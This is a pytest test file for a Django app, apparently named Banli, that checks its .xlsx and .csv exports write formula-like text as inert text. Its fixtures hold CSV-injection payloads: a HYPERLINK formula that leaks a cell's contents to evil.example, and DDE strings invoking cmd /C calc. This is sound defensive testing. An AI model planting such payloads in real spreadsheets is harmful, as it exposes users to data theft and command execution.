"""Issue 17.7: a text that starts like a formula is never a live formula in any .xlsx or .csv Banli writes."""
import csv
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from banli.core.cells import FORMULA_STARTS
from banli.core.testing import PASSWORD, assign, make_proposal, walk_to
from banli.exchange.archive import build_archive
from banli.handling import services as handling
from banli.organizations.models import Unit

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
EVIL_TEXTS = [EVIL_TITLE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def assert_no_live_formula(rows, where):
    """Every text cell that starts like a formula is marked as text; returns how many were marked."""
    marked = 0
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS) or value.lstrip("+-").replace(".", "").isdigit(), \
                    f"{where}: live formula text {value!r}"
                marked += value.startswith("'") and value[1:2] in FORMULA_STARTS
    return marked


def workbook_rows(data: bytes, where: str):
    wb = load_workbook(io.BytesIO(data))
    rows = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
            rows.append([cell.value for cell in row])
    return rows


@pytest.fixture
def evil_world(world):
    Unit.objects.filter(pk=world.lead_unit.pk).update(name="-区教育局+1")
    first = make_proposal(world, number="20250001", title=EVIL_TITLE)
    lead, _co = assign(world, first)
    a = walk_to(world, lead, "in_progress")
    handling.contact_log(assignment=a, actor=world.lead_handler, phase="before", method="phone",
                         contacted_on=timezone.localdate(), people="@李委员", summary="=1+1")
    for i, text in enumerate(EVIL_TEXTS[1:], start=2):
        make_proposal(world, number=f"2025000{i}", title=text)
    return world


def _get(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_ledger_xlsx_and_csv_write_formula_texts_as_text(client, evil_world):
    w = evil_world
    client.login(username=w.office.username, password=PASSWORD)
    rows = workbook_rows(_get(client, "/exchange/ledger.xlsx"), "ledger.xlsx")
    assert assert_no_live_formula(rows, "ledger.xlsx") >= 2
    assert "'" + EVIL_TITLE in [c for row in rows for c in row]
    text = _get(client, "/exchange/ledger.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert assert_no_live_formula(rows, "ledger.csv") >= 2
    assert "'" + EVIL_TITLE in [c for row in rows for c in row]


def test_the_notice_xlsx_writes_formula_texts_as_text(client, evil_world):
    w = evil_world
    client.login(username=w.office.username, password=PASSWORD)
    rows = workbook_rows(_get(client, f"/exchange/notices/{w.session.pk}/{w.lead_unit.pk}.xlsx"), "notice")
    assert assert_no_live_formula(rows, "notice") >= 1


def test_every_workbook_of_the_archive_writes_formula_texts_as_text(evil_world, tmp_path):
    path = tmp_path / "a.zip"
    build_archive(evil_world.session, path)
    marked = 0
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xlsx"):
                marked += assert_no_live_formula(workbook_rows(z.read(name), name), name)
    assert marked >= 3  # the index's title, the contact's summary and people
